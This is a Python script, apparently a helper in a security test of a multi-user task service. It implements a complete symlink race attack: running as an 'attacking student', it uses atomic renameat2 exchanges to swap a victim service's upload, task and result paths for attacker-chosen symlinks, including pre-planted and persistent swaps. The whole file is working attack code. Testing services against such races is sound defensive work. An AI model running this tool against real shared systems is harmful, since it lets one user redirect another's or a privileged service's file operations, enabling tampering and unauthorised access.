"""The attacker's swap loop: run as the attacking student's uid, standard library only.

    python3 -I swaploop.py '<json config>'

It first runs ``setup`` (``["mkdir", path]`` / ``["symlink", target, path]``), then, in
rounds, flips each swap's path ``a`` between what is there and a symlink to ``target``
with ``renameat2(RENAME_EXCHANGE)``: one atomic step, so no one ever sees ``a`` missing.

* Each round puts the symlink in (even rounds) or takes it out again (odd rounds;
  with ``hold`` 0 every round is simply one more exchange, the fastest flip there is); a
  ``sticky`` swap is put in every round and never taken out (for files the victim's
  side rewrites, e.g. ``result.json``: whenever it is a real file again, it is swapped).
* ``plant``: when ``a`` does not exist yet, the symlink is put there with a plain
  rename, so whoever creates ``a`` later finds the symlink first.
* ``when``: a path whose existence makes the swap worth trying already (e.g. the upload
  in ``incoming/``, for a swap of the file it becomes in ``tasks/``: the loop is then
  spinning on that path when the accept renames it there).
* ``after``: a path whose appearance starts the swap (e.g. her own ``run/result.json``:
  the job is over, now the run directory is swapped for good, with ``sticky``).
* ``until``: a path whose appearance ends the swap (e.g. the task's published status:
  remoted has read ``task.toml`` by then); swaps whose directory does not exist yet are
  skipped, so a round only spends time on the paths that can matter now (the list is
  renewed every 16 rounds).
* ``a`` may be a list: the places one entry passes through, e.g. an upload's
  ``task.toml`` from ``incoming/tmp/<id>/`` to ``tasks/<id>/``; each step acts on the
  first that exists, so the swap follows the entry at once.
* The partner name ``tmp`` holds the symlink before the exchange and the real entry
  after it; a real entry left behind there (because the other side replaced the
  symlink meanwhile) is moved aside to a fresh name so the next round has a symlink again.

After at most ``rounds`` rounds or ``seconds`` seconds, or once ``stop_file`` exists, every
non-sticky swap is taken out (real entries back in place) and the counts are printed
as JSON: how often each exchange succeeded and which errors the kernel gave.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import random
import stat
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = 316          # x86_64

_libc = ctypes.CDLL(None, use_errno=True)
_renameat2 = getattr(_libc, "renameat2", None)


def exchange(a: str, b: str) -> None:
    ba, bb = os.fsencode(a), os.fsencode(b)
    if _renameat2 is not None:
        rc = _renameat2(AT_FDCWD, ba, AT_FDCWD, bb, RENAME_EXCHANGE)
    else:
        rc = _libc.syscall(SYS_RENAMEAT2, AT_FDCWD, ba, AT_FDCWD, bb, RENAME_EXCHANGE)
    if rc != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e), a)


def _lmode(path: str) -> int | None:
    try:
        return os.lstat(path).st_mode
    except OSError:
        return None


class Swap:
    def __init__(self, a: str | list[str], tmp: str, target: str, plant: bool = False, sticky: bool = False,
                 until: str | None = None, when: str | None = None, after: str | None = None):
        #: ``a`` may list the places one entry passes through (an upload's file moves from
        #: incoming/ into tasks/ with its directory): the first that exists is used.
        self.paths = [a] if isinstance(a, str) else list(a)
        self.a = self.paths[0]
        self.tmp, self.target, self.plant, self.sticky = tmp, target, plant, sticky
        self.until = until
        self.after = after
        self.parents = [os.path.dirname(p) for p in self.paths] + ([when] if when else [])
        self.started = False
        self.junk = 0
        self.ok = 0
        self.errors: dict[str, int] = {}
        self.idx = 0          # paths before it have been left behind by the entry
        self.ready = False    # a and tmp both exist: flipping is one exchange

    def flip(self) -> None:
        """The fastest flip: one exchange while a and tmp are known to exist, the full
        put_in/take_out logic again after any error."""
        if self.ready:
            try:
                exchange(self.a, self.tmp)
                self.ok += 1
                return
            except OSError as exc:
                self._err(exc)
                self.ready = False
        self.put_in()
        self.ready = _lmode(self.a) is not None and _lmode(self.tmp) is not None

    def _err(self, exc: OSError) -> None:
        name = errno.errorcode.get(exc.errno or 0, str(exc.errno))
        self.errors[name] = self.errors.get(name, 0) + 1

    def _find(self) -> int | None:
        """Point ``self.a`` at the first of the paths that exists; its lstat mode."""
        for i in range(self.idx, len(self.paths)):
            m = _lmode(self.paths[i])
            if m is not None:
                self.a, self.idx = self.paths[i], i
                return m
        self.a = self.paths[self.idx]
        return None

    def _symlink_at_tmp(self) -> None:
        mt = _lmode(self.tmp)
        if mt is not None and stat.S_ISLNK(mt):
            return
        if mt is not None:
            # A real entry at tmp and (usually) at a: the other side replaced the symlink
            # at a with a fresh entry of its own.  The original goes back to a, the fresh
            # one is moved aside, and tmp gets a new symlink.
            ma = _lmode(self.a)
            if ma is not None and not stat.S_ISLNK(ma):
                exchange(self.a, self.tmp)
            self.junk += 1
            try:
                os.rename(self.tmp, f"{self.tmp}.{os.getpid()}.{self.junk}")
            except OSError:
                os.unlink(self.tmp)
        os.symlink(self.target, self.tmp)

    def active(self) -> bool:
        """Worth a try now: a directory of it (or ``when``) exists and its ``until`` path
        does not yet."""
        if self.until and os.path.lexists(self.until):
            return False
        if self.after and not self.started:
            self.started = os.path.lexists(self.after)
            return self.started
        return any(os.path.lexists(p) for p in self.parents)

    def put_in(self) -> None:
        try:
            m = self._find()
            if m is not None and stat.S_ISLNK(m):
                return
            if m is None and not self.plant:
                return
            self._symlink_at_tmp()
            if m is None:
                os.rename(self.tmp, self.a)
            else:
                exchange(self.a, self.tmp)
            self.ok += 1
        except OSError as exc:
            self._err(exc)

    def take_out(self) -> None:
        try:
            m, mt = self._find(), _lmode(self.tmp)
            if m is None or not stat.S_ISLNK(m):
                return
            if mt is not None and not stat.S_ISLNK(mt):
                exchange(self.a, self.tmp)      # the real entry back in place
                self.ok += 1
            elif self.plant:
                os.unlink(self.a)               # a planted symlink: nothing real to put back
        except OSError as exc:
            self._err(exc)


def setup(steps: list[list[str]]) -> None:
    for step in steps:
        try:
            if step[0] == "mkdir":
                os.makedirs(step[1], exist_ok=True)
            elif step[0] == "symlink":
                os.symlink(step[1], step[2])
        except OSError:
            pass


def main(cfg: dict) -> dict:
    setup(cfg.get("setup", []))
    swaps = [Swap(**s) for s in cfg["swaps"]]
    hold = float(cfg.get("hold", 0.0))
    deadline = time.monotonic() + float(cfg.get("seconds", 5))
    stop_file = cfg.get("stop_file")
    rounds = 0
    active = swaps
    while rounds < int(cfg.get("rounds", 100000)) and time.monotonic() < deadline:
        if rounds % 16 == 0:
            if stop_file and os.path.exists(stop_file):
                break
            # Only the swaps whose paths exist by now: a round stays short, so the paths
            # that matter flip as often as the kernel lets them.
            active = [s for s in swaps if s.active()]
        if not active:
            os.sched_yield()       # nothing to race yet: look again at once (a sleep can oversleep by ms)
            continue
        for s in active:
            if s.sticky:
                s.put_in()
            elif not hold and not s.plant:
                s.flip()
            elif rounds % 2 == 0:
                s.put_in()
            else:
                s.take_out()
        rounds += 1
        if hold:
            time.sleep(random.uniform(0, hold))
    for s in swaps:
        if not s.sticky:
            s.take_out()
    return {"rounds": rounds, "exchanges": sum(s.ok for s in swaps),
            "per_swap": {s.paths[0]: {"ok": s.ok, "errors": s.errors} for s in swaps}}


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))))
